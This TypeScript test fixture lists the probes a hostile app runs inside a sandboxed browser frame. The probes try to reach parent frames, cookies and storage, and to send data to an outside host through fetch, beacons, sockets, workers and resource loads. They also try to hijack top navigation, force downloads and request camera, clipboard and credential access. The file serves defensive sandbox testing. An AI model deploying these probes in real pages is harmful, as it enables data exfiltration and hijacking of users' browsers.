// What an app of fixtures/hostile-app.mjs tries in a browser. Each row is code that runs in its frame; what it gives back is
// told as a line of the app's log, and what leaves the frame is seen by a listener outside.

/** Where an attack may send something: `outside` is another host, `here` another port, `ours` our own. */
export type Targets = { outside: string; here: string; ours: string };

const TOOLS = `
const tried = {};
const attempt = async (name, work) => {
  let timer;
  const late = new Promise((done) => (timer = setTimeout(() => done('nothing'), 1500)));
  try {
    const given = await Promise.race([Promise.resolve().then(work), late]);
    tried[name] = given === undefined || given === null ? 'nothing' : String(given).slice(0, 200);
  } catch (error) {
    tried[name] = 'refused';
  }
  clearTimeout(timer);
};
const loaded = (tag, more, event = 'load') => new Promise((done, fail) => {
  const it = Object.assign(document.createElement(tag), more);
  it['on' + event] = () => done('LOADED');
  it.onerror = fail;
  document.body.append(it);
});
const all = async (rows) => { await Promise.all(Object.entries(rows).map(([name, work]) => attempt(name, work))); return tried; };
`;

type Attack = { name: string; code: (at: Targets) => string };

/** Nothing of these may be anything but refused, or nothing. */
export const ATTACKS: Attack[] = [
  {
    name: 'K1: its parents and their frames',
    code: () => `return all({
      parent: () => parent.document.title, top: () => top.document.title, href: () => top.location.href,
      neighbour: () => parent.parent.frames[0].document.title, self: () => (self.origin === 'null' ? undefined : self.origin),
      name: () => parent.parent.document.querySelector('#note').textContent, opener: () => opener && opener.document,
    });`,
  },
  {
    name: 'K2: cookies, storage, shared workers',
    code: () => `return all({
      cookie: () => { document.cookie = 'a=1'; return document.cookie; }, local: () => localStorage.length, session: () => sessionStorage.length,
      indexed: () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done('OPEN'); r.onerror = fail; }),
      caches: async () => { await caches.open('x'); return 'OPEN'; }, service: async () => { await navigator.serviceWorker.register('sw.js'); return 'OPEN'; },
      shared: () => new Promise((done, fail) => { const w = new SharedWorker('data:text/javascript,onconnect=({ports:[p]})=>p.postMessage(1)', 'x'); w.onerror = fail; w.port.onmessage = () => done(undefined); }),
    });`,
  },
  {
    name: 'K3: fetch and its kin',
    code: ({ outside, here, ours }) => `const rows = {};
    for (const [where, url] of Object.entries(${JSON.stringify({ outside, here, ours })})) {
      rows['fetch ' + where] = async () => (await fetch(url, { mode: 'no-cors' })).type;
      rows['post ' + where] = async () => (await fetch(url + 'up', { method: 'POST', mode: 'no-cors', body: '{}' })).type;
      rows['xhr ' + where] = () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', url); x.onload = () => done('LOADED'); x.onerror = fail; x.send(); });
      rows['socket ' + where] = () => new Promise((done, fail) => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = () => done('OPEN'); s.onerror = fail; });
      rows['events ' + where] = () => new Promise((done, fail) => { const s = new EventSource(url); s.onopen = () => done('OPEN'); s.onerror = () => { s.close(); fail(); }; });
      rows['beacon ' + where] = () => { navigator.sendBeacon(url, 'x'); };
      rows['transport ' + where] = async () => { const t = new WebTransport(url.replace('http:', 'https:')); await t.ready; return 'OPEN'; };
    }
    return all(rows);`,
  },
  {
    name: 'K4: what a page loads',
    code: ({
      outside: o,
    }) => `const link = (rel, more = {}) => loaded('link', { rel, href: '${o}' + rel, ...more });
    document.head.insertAdjacentHTML('beforeend', '<style>@import "${o}import.css"; body { background: url(${o}bg.png) } @font-face { font-family: f; src: url(${o}f.woff) } body { font-family: f }</style>');
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: ['${o}spec'] }], prefetch: [{ urls: ['${o}spec2'] }] }) }));
    return all({
      img: () => loaded('img', { src: '${o}i.png' }), css: () => link('stylesheet'), script: () => loaded('script', { src: '${o}s.js' }),
      module: () => import('${o}m.js'), object: () => loaded('object', { data: '${o}o' }), embed: () => loaded('embed', { src: '${o}e' }),
      video: () => loaded('video', { src: '${o}v.mp4', autoplay: true }, 'loadeddata'), audio: () => loaded('audio', { src: '${o}a.mp3' }, 'loadeddata'),
      prefetch: () => link('prefetch'), modulepreload: () => link('modulepreload'), preload: () => link('preload', { as: 'image' }), prerender: () => link('prerender'),
      manifest: () => link('manifest'), icon: () => link('icon'), track: () => loaded('img', { srcset: '${o}2.png 1x' }),
      svg: () => { document.body.insertAdjacentHTML('beforeend', '<svg><image href="${o}svg.png"/><use href="${o}use.svg#a"/></svg>'); }, ping: () => { document.body.insertAdjacentHTML('beforeend', '<a id="p" href="#x" ping="${o}ping">x</a>'); document.getElementById('p').click(); },
    });`,
  },
  {
    name: 'K5: frames and workers',
    code: ({
      outside: o,
    }) => `const worker = (text) => new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
    const told = (w) => new Promise((done, fail) => { w.onmessage = ({ data }) => data === 'no' ? fail() : done(data); w.onerror = fail; });
    const inside = (src) => new Promise((done, fail) => { addEventListener('message', ({ data }) => data?.inner && (data.inner === 'no' ? fail() : done(data.inner))); document.body.append(Object.assign(document.createElement('iframe'), src)); });
    const TRY = "fetch('${o}inner', { mode: 'no-cors' }).then(() => 'OUT', () => 'no')";
    return all({
      frame: () => { document.body.append(Object.assign(document.createElement('iframe'), { src: '${o}frame' })); },
      data: () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'data:text/html,<script>' + TRY + '</scr' + 'ipt>' })); },
      srcdoc: () => inside({ srcdoc: '<script>' + TRY + '.then((inner) => parent.postMessage({ inner }, "*"))</scr' + 'ipt>' }),
      import: () => told(worker("try { importScripts('${o}w.js'); postMessage('IMPORTED') } catch { postMessage('no') }")),
      fetch: () => told(worker(TRY + ".then(postMessage)")), outside: () => told(new Worker('${o}w2.js')),
      worklet: async () => { await new AudioContext().audioWorklet.addModule('${o}wl.js'); return 'LOADED'; },
    });`,
  },
  {
    name: 'K7: other windows, and the top',
    code: ({
      outside: o,
    }) => `const click = (more) => { const a = Object.assign(document.createElement('a'), { href: '${o}a', ...more }); document.body.append(a); a.click(); };
    return all({
      top: () => { top.location = '${o}top'; }, parent: () => { parent.location = '${o}parent'; }, replace: () => top.location.replace('${o}replace'),
      open: () => window.open('${o}open'), openTop: () => window.open('${o}open', '_top'), openParent: () => window.open('${o}open', '_parent'),
      blank: () => click({ target: '_blank' }), targetTop: () => click({ target: '_top' }), download: () => click({ download: 'x.exe' }),
      dataDownload: () => click({ href: 'data:application/octet-stream,x', download: 'x.exe' }), javascript: () => window.open('javascript:alert(1)', '_top'),
    });`,
  },
  {
    name: 'K8: dialogs and devices',
    code: () => `return all({
      alert: () => alert('x'), confirm: () => confirm('x') || undefined, prompt: () => prompt('x'), print: () => print(),
      fullscreen: async () => { await document.body.requestFullscreen(); return 'FULL'; }, pointer: async () => { await document.body.requestPointerLock(); return document.pointerLockElement; },
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }), microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }), screen: () => navigator.mediaDevices.getDisplayMedia(),
      place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done('HERE'), fail)),
      notify: async () => { const given = await Notification.requestPermission(); return given === 'granted' ? given : undefined; },
      read: () => navigator.clipboard.readText(), write: async () => { await navigator.clipboard.writeText('x'); return 'WRITTEN'; },
      usb: () => navigator.usb.requestDevice({ filters: [] }), serial: () => navigator.serial.requestPort(), bluetooth: () => navigator.bluetooth.requestDevice({ acceptAllDevices: true }),
      wake: async () => { await navigator.wakeLock.request(); return 'AWAKE'; }, credentials: () => navigator.credentials.get({ password: true }),
      storage: async () => { await document.requestStorageAccess(); return 'STORAGE'; }, pay: async () => { await new PaymentRequest([{ supportedMethods: 'x' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show(); return 'PAID'; },
    });`,
  },
];

export const codeOf = ({ code }: Attack, at: Targets): string => TOOLS + code(at);
/** All in one, for a browser that takes long to start. */
export const codeOfAll = (at: Targets): string =>
  `const found = {};\n${ATTACKS.map((each) => `found[${JSON.stringify(each.name)}] = await (async () => { ${codeOf(each, at)} })();`).join('\n')}\nreturn found;`;
